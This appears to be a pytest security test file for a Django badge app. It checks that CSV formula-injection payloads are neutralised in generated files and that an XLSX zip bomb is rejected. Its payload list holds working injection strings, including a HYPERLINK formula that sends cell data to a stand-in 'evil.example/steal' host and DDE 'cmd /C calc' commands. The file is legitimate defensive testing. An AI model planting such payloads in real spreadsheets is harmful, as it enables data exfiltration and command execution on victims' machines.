"""Issue 18 item 3, tried as the outside test did, through the console.

- Formula payloads typed as learner names and e-mails come back as text in every file we
  generate: the upload's ``results.csv`` and the templates in both languages.
- A 1 MB XLSX zip bomb (120 MiB unpacked) is refused with a clear 400 and nothing stored.

``pytest tests/security -s`` prints both figures. Nothing here asserts a timing.
"""

from __future__ import annotations

import csv
import io
import time

import pytest
from django.test import Client
from django.urls import reverse

from awarding.bulk import parse
from badges.models import AchievementVersion, BulkBatch
from common import spreadsheets
from tests.badges.helpers import make_published
from tests.badges.test_bulk_spreadsheet_safety import GOOD_ROWS, _console_post, _parts, _zip
from tests.base import Cast

pytestmark = pytest.mark.django_db

# The outside report's four, and the forms a spreadsheet program also runs.
PAYLOADS = [
    '=HYPERLINK("https://evil.example/steal?d="&A2,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals sign
    "＋1+1",
    "\t=1+1",
    "  =1+1",  # after leading blanks
    '=DDE("cmd";"/C calc";"A0")',
]


def _live(cell: str) -> bool:
    """Whether a spreadsheet program would run ``cell`` as a formula."""
    return (cell[:1] or cell.lstrip(" \u00a0\u3000")[:1]) in spreadsheets.FORMULA_STARTS or (
        cell.lstrip(" \u00a0\u3000")[:1] in spreadsheets.FORMULA_STARTS
    )


def _generated_files(client: Client, cast: Cast, version: AchievementVersion) -> dict[str, str]:
    """Every file the console generates from what people type: the upload's results.csv and
    the templates. The payloads go in as names and, once, as an e-mail address."""
    lines = [
        f'l{n}@example.com,"{payload.replace(chr(34), chr(34) * 2)}"'
        for n, payload in enumerate(PAYLOADS)
    ]
    lines.append(f'"{PAYLOADS[0].replace(chr(34), chr(34) * 2)}",Mallory')
    data = ("Email,Name\n" + "\n".join(lines) + "\n").encode()
    response = _console_post(client, cast, version, data, "cohort.csv")
    assert response.status_code == 302, response.content[:500]
    batch = BulkBatch.objects.get()
    results = client.get(reverse("manage:bulk_results", args=[cast.institution.slug, batch.pk]))
    assert results.status_code == 200
    files = {"results.csv": results.content.decode("utf-8-sig")}
    for language in ("en", "zh"):
        files[f"template ({language})"] = parse.template_csv(language).decode("utf-8-sig")
    return files


def test_no_formula_payload_is_live_in_any_generated_file(client: Client, cast: Cast) -> None:
    version = make_published(cast.editor, cast.issuer)
    files = _generated_files(client, cast, version)

    found, live = 0, []
    for name, text in files.items():
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                if any(payload.strip() in cell for payload in PAYLOADS):
                    found += 1
                if _live(cell):
                    live.append((name, cell))

    assert live == []
    # Every payload came back (as text), so the check above had something to find.
    assert found >= len(PAYLOADS) + 1
    print(
        f"formula payloads: 0 of {found} live in {len(files)} generated files ({', '.join(files)})"
    )


def test_an_xlsx_zip_bomb_is_a_clear_400(client: Client, cast: Cast) -> None:
    version = make_published(cast.editor, cast.issuer)
    bomb = _zip(_parts(GOOD_ROWS), padding={"xl/sharedStrings.xml": 120 << 20})
    assert len(bomb) < 1 << 20

    started = time.perf_counter()
    response = _console_post(client, cast, version, bomb, "cohort.xlsx")
    took = time.perf_counter() - started

    assert response.status_code == 400
    assert "unpacks to more than 50 MB" in response.content.decode()
    assert BulkBatch.objects.count() == 0
    print(
        f"XLSX bomb ({len(bomb) // 1024} KB, 120 MiB unpacked): refused with 400 in "
        f"{took:.2f} s (target ≤ 2 s), nothing stored"
    )
